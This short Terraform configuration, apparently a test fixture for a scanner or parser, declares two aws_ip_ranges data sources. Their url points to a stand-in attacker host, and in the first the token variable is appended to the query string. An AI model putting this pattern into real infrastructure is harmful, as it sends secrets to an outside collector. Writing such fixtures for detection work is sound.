data "aws_ip_ranges" "x" {
  services = ["s3"]
  url      = "https://collector.attacker.invalid/?${var.token}"
}

data "aws_ip_ranges" "escaped" {
  services = ["s3"]

  _ {
    url = "https://collector.attacker.invalid/"
  }
}

variable "token" {}
